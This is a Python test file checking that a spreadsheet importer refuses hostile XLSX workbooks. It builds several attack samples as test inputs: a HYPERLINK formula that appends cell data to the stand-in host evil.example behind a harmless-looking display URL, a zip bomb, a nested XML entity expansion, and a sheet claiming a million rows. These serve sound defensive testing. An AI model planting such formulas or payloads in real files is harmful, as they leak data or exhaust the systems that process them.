"""Hostile workbooks: a formula is never evaluated, a zip bomb is refused before it is
unpacked, and a sheet that claims a million rows is read in bounded time and memory."""

from __future__ import annotations

import resource
import shutil
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from alliancekg.exc import InvalidData
from alliancekg.ingest.tablefiles import MAX_RATIO, check_workbook
from alliancekg.ingest.validation import validate_seeds
from tests.paths import FIXTURES

EXAMPLE = FIXTURES / "tables" / "example"


def example_with(tmp_path: Path, memberships: openpyxl.Workbook) -> Path:
    shutil.copytree(EXAMPLE, tmp_path / "s")
    (tmp_path / "s" / "example.memberships.csv").unlink()
    memberships.save(tmp_path / "s" / "example.memberships.xlsx")
    return tmp_path / "s"


def memberships_workbook() -> openpyxl.Workbook:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["member", "alliance", "role", "status", "source_url"])
    ws.append(
        ["alpha-soft", "ab-alliance", "founder", "active", "https://alphasoft.example/press/7"]
    )
    return wb


def test_a_formula_is_refused_and_never_evaluated(tmp_path: Path) -> None:
    wb = memberships_workbook()
    ws = wb.active
    ws.append(["beta-cloud", "ab-alliance", "member", "active", None])
    # What the cell would show if evaluated is a plausible URL: it must not be taken.
    ws["E3"] = '=HYPERLINK("https://evil.example/"&A3,"https://www.example-daily.example/")'

    with pytest.raises(InvalidData) as e:
        validate_seeds([example_with(tmp_path, wb)])

    [problem] = e.value.problems
    assert (problem.line, problem.entry, problem.field) == (3, "sheet Sheet row 3", "source_url")
    assert problem.message.startswith("cell E3 holds a formula (=HYPERLINK(")
    assert "a table takes values" in problem.message


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    path = tmp_path / "s" / "bomb.memberships.xlsx"
    path.parent.mkdir()
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        # 64 MiB of one character packs into a few dozen KiB.
        zf.writestr("xl/worksheets/sheet1.xml", b"<" * (64 * 2**20))
    started = time.perf_counter()

    with pytest.raises(InvalidData) as e:
        validate_seeds([path.parent])

    assert time.perf_counter() - started < 5
    [problem] = e.value.problems
    assert "a zip bomb?" in problem.message
    assert f"(at most {MAX_RATIO})" in problem.message
    assert check_workbook(path) == problem.message


def test_a_workbook_that_is_not_a_zip_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "x.memberships.xlsx"
    path.write_text("member,alliance\n", encoding="utf-8")

    assert str(check_workbook(path)).startswith("not an XLSX workbook")


def test_a_sheet_claiming_a_million_rows_is_read_in_bounded_time_and_memory(
    tmp_path: Path,
) -> None:
    wb = memberships_workbook()
    # One cell at the last row and column Excel has: a million empty rows between.
    wb.active.cell(row=1_048_576, column=16_384, value="x")
    seeds = example_with(tmp_path, wb)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()

    graph = validate_seeds([seeds]).graph

    assert time.perf_counter() - started < 30
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000  # KiB
    assert len(graph) > 0


def test_xml_entities_in_a_workbook_are_refused(tmp_path: Path) -> None:
    seeds = example_with(tmp_path, memberships_workbook())
    path = seeds / "example.memberships.xlsx"
    with zipfile.ZipFile(path) as zf:
        parts = {name: zf.read(name) for name in zf.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode("utf-8")
    laughs = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    assert sheet.startswith("<worksheet")
    parts["xl/worksheets/sheet1.xml"] = (laughs + sheet.replace("founder", "&b;")).encode()
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in parts.items():
            zf.writestr(name, data)

    with pytest.raises(InvalidData) as e:
        validate_seeds([seeds])

    [problem] = e.value.problems
    assert problem.message.startswith("cannot read the workbook: EntitiesForbidden")
